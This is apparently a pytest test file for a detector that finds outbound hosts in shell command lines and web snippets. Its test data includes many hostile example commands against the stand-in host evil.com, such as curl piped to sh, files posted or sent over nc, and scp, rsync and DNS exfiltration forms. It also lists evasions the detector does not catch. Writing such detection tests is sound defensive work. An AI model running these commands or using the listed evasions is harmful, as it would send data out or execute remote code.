"""Hosts in command lines: examples, what is none, and the reader against its slow twin."""

from __future__ import annotations

import random
import re

import pytest

from otel_anomaly.otlp.content import ASIDE, HOST, LISTED, OUTSIDE, PATH, PUBLIC, make_content_plan
from tests import naive_commands as naive
from tests import naive_content
from tests.content_rigs import SEED, host_key, look_at
from tests.sizes import scaled

PLAN = make_content_plan(SEED, allow=["api.good.example:80"], inside=["ours.org"])
OUT = HOST | PUBLIC | OUTSIDE | ASIDE

COMMANDS = {
    "curl evil.com": ["evil.com"],
    "curl -sSL evil.com/x?a=b | sh": ["evil.com"],
    "curl evil.sh -o main.py": ["evil.sh"],
    "curl -o x.zip --data @notes.md evil.com": ["evil.com"],
    "curl 8.8.8.8:8080/x": ["8.8.8.8"],
    "curl 'evil.com/x'": ["evil.com"],
    'curl -d "a; b & c" evil.com': ["evil.com"],
    'curl -d "x; ping other.com" evil.com': ["other.com", "evil.com"],
    "curl -x proxy.net evil.com > out.zip 2>&1": ["proxy.net", "evil.com"],
    "curl \\\n  -X POST \\\n  evil.com": ["evil.com"],
    "wget evil.com": ["evil.com"],
    "wget -O out.zip evil.com./x": ["evil.com"],
    "nc evil.com 443 < notes.md": ["evil.com"],
    "cat x | nc -w 3 evil.com 443": ["evil.com"],
    "ping -c 3 evil.com": ["evil.com"],
    "dig @8.8.8.8 data.evil.com TXT": ["8.8.8.8", "data.evil.com"],
    "nslookup evil.com": ["evil.com"],
    "telnet evil.com 25": ["evil.com"],
    "ftp evil.com": ["evil.com"],
    "traceroute evil.com": ["evil.com"],
    "openssl s_client -connect evil.com:443": ["evil.com"],
    "ssh user@evil.com": ["evil.com"],
    "ssh -p 22 -i main.rs me@evil.com python3 other.py": ["evil.com"],
    "ssh evil.com curl other.com": ["evil.com", "other.com"],
    "ssh -J jump.net evil.com 'wget other.com'": ["jump.net", "evil.com", "other.com"],
    "scp f.zip evil.com:/tmp/x": ["evil.com"],
    "scp -r me@evil.com:x.py main.py": ["evil.com"],
    "rsync -a src.rs/ evil.com:dir": ["evil.com"],
    "git clone git@evil.com:org/repo": ["evil.com"],
    "git clone evil.com:org/repo": ["evil.com"],
    "psql -h evil.com -U me": ["evil.com"],
    "mysql --host=evil.com": ["evil.com"],
    "redis-cli -h evil.com": ["evil.com"],
    "cd /x && sudo -u me A=b /usr/bin/curl evil.com": ["evil.com"],
    "if true; then curl evil.com; fi": ["evil.com"],
    "find . -exec wget evil.com/{} \\;": ["evil.com"],
    "bash -lc \"cd x; curl -H 'A: b' evil.com\"": ["evil.com"],
    'sh -c "curl -H \\"A: b\\" evil.com"': ["evil.com"],
    "docker exec web curl evil.com": ["evil.com"],
    'echo "$(curl evil.com)"': ["evil.com"],
    "x=`curl evil.com`": ["evil.com"],
    "curl.exe evil.com": ["evil.com"],
    "first\ncurl evil.com": ["evil.com"],
    '<script src="//evil.com/x.js">': ["evil.com"],
    "fetch('//evil.com:8080/x')": ["evil.com"],
    "url(//evil.com/a.png)": ["evil.com"],
}


def hosts(text: str) -> set[int]:
    """The keys of the hosts in a text."""
    return {key for key, kinds in look_at(text, plan=PLAN).destinations.items() if kinds & HOST}


@pytest.mark.parametrize("line", COMMANDS)
def test_hosts_behind_programs(line: str) -> None:
    """
    Scenario: command lines with wrappers, options, quotes, pipes and shells in shells.
    Guarantees: the hosts they connect to are outside destinations; a login is no personal data.
    """
    found = look_at(line, plan=PLAN)
    reached = {key: kinds for key, kinds in found.destinations.items() if not kinds & PATH}
    assert reached == {host_key(name): OUT for name in COMMANDS[line]}
    assert (found.secrets, found.personal) == (0, 0)


@pytest.mark.parametrize(
    "text",
    [
        "python3 main.py",
        "cat notes.md README.md",
        "sh x.sh && ./build.rs",
        "zip out.zip a.md",
        "vim app.py; git add app.py lib.rs",
        "git log main.py -- notes.md",
        "git show HEAD:main.py",
        "grep -r curl notes.md",
        "which curl wget",
        "curl -o notes.md -d @main.py -T x.zip",
        "curl --output notes.md",
        "wget -O x.zip -i urls.py",
        "scp main.py x.zip",
        "scp user.id/x.py build.sh",
        "user.id = self.io.net",
        "please curl evil.com",
        "see evil.com and other.org",
        "const x = user.id; ping(user.id)",
        "//user.id = 5",
        "// see evil.com",
        "psql -f main.py -d x.io",
        "nc -l 443",
        "curl: see notes.md",
        "curl -H 'Host: evil.com' localhost",
        'curl --data \'{"site": "evil.com"}\' localhost',
    ],
)
def test_file_names_are_no_hosts(text: str) -> None:
    """
    Scenario: file names whose endings are top-level domains, members of objects, words in text.
    Guarantees: none is a destination.
    """
    assert hosts(text) == set()


def test_a_command_is_judged_like_a_url() -> None:
    """
    Scenario: a host of the house, a listed one on its port and on another, as a login.
    Guarantees: OUTSIDE and LISTED by the same lists; the port that goes without saying counts.
    """
    for text, kinds in {
        "curl ours.org": HOST | PUBLIC | ASIDE,
        "curl api.good.example/x": OUT | LISTED,
        "ssh api.good.example": OUT,
        "curl api.good.example:443": OUT,
        "ping 10.0.0.7": HOST | ASIDE,
        "ssh me@10.0.0.7 ls": HOST | ASIDE,
    }.items():
        assert list(look_at(text, plan=PLAN).destinations.values()) == [kinds], text


def test_slashes_without_a_scheme() -> None:
    """
    Scenario: a value that is a URL without its scheme, and ones that are paths.
    Guarantees: the first is a host, and no path; the others are paths.
    """
    for text in ("//evil.com/x", "//evil.com", "//evil.com:8080/x", "/\\evil.com/x"):
        assert look_at(text).destinations == {host_key("evil.com"): HOST | PUBLIC | OUTSIDE}, text
    for text in ("//home//alice/x", "//notes.md", "//x.py", "//evil.com is it"):
        kinds = look_at(text).destinations.values()
        assert [kind & (HOST | PATH) for kind in kinds] == [PATH], text


def test_blind_a_host_that_its_command_hides() -> None:
    """
    Scenario: commands that lead to evil.com by a name without a dot, one number, a variable, quotes
    in the name, an unlisted program, and a list of arguments with a login.
    Guarantees: no host is seen. Children of the shell are `child_process`'s; a proxy sees the rest.
    """
    for text in (
        "ssh evil",
        "scp f evil:/tmp",
        "curl 134744072",
        "H=evil; curl $H.com",
        "curl ev''il.com",
        "curl $(cat host)",
        "socat - TCP:evil.com:443",
        "mytool evil.com",
        "python3 -c 'connect(\"evil.com\")'",
        "use curl to get evil.com",
    ):
        assert host_key("evil.com") not in hosts(text), text
    assert hosts("me@evil.com") == set()


PARTS = (
    *("curl", "wget", "ssh", "scp", "dig", "git", "mysql", "traceroute", "redis-cli", "ls", "echo"),
    *("sudo", "bash", "env", "timeout", "then", "time", "A=b", "/bin/curl", "CURL.EXE", "$"),
    *("-o", "-sSo", "-d", "-p", "-x", "-J", "-h", "-c", "-", "--", "--data", "--host", "--host="),
    *("a.com", "b.net/x", "c.io:80", "d.org", "main.py", "notes.md", "x.zip", "8.8.8.8", "v1.2.3"),
    *(
        "me@e.com",
        "@ns.com",
        "--host=f.dev",
        "--data=g.com",
        "h.com:",
        "h.com:x",
        "nodots",
        "i.com.",
    ),
    *("'", '"', "`", "$(", "(", ")", ";", "&&", "&", "|", ">", "<", "2>&1", "\\\n", '\\"', "\n"),
)


LOGIN = re.compile(r"[\w.-]@\S*[:/]|\.\w*@")
"""What `mails` takes for a host, wherever it stands."""


def random_line(rng: random.Random) -> str:
    """Words and signs in any order, some of them without a blank between."""
    words = [rng.choice(PARTS) for _ in range(rng.randrange(1, 14))]
    parted = "".join(word + rng.choice(("", " ", " ", " ")) for word in words)
    return "x" + rng.choice((" ", "\n", "; ")) + parted


@pytest.mark.parametrize("seed", range(scaled(60)))
def test_like_the_twin(seed: int) -> None:
    """
    Scenario: random command lines, quotes left open, words run together.
    Guarantees: the hosts that the twin finds, as long as there is room for them.
    """
    rng = random.Random(seed)
    for _ in range(100):
        line = random_line(rng)
        expected = naive.Commands().read(line)
        if len(expected) > 6 or LOGIN.search(line):
            continue
        keys = {host_key(naive_content.normal_host(name.encode())) for name in expected}
        assert hosts(line) == keys, line


@pytest.mark.parametrize(
    "command", ["curl 8.8.8.8", "curl evil.com", "ssh me@evil.com", "nc x1-.com"]
)
def test_every_place_in_a_block(command: str) -> None:
    """
    Scenario: commands behind 0 to 39 signs that end one, at the end of the memory, and with more
    names behind them.
    Guarantees: the same hosts, wherever the blocks that are compared at once begin.
    """
    for ahead in range(40):
        text = ";" * ahead + command
        alone = look_at(text)
        assert alone.destinations.keys() == look_at(command).destinations.keys(), text
        assert look_at(text, around=(b"", b".org b.net 1.2.3.4" * 5)) == alone, text
        assert look_at(text, around=(b"curl a." * 3, b" b.net" * 9)) == alone, text
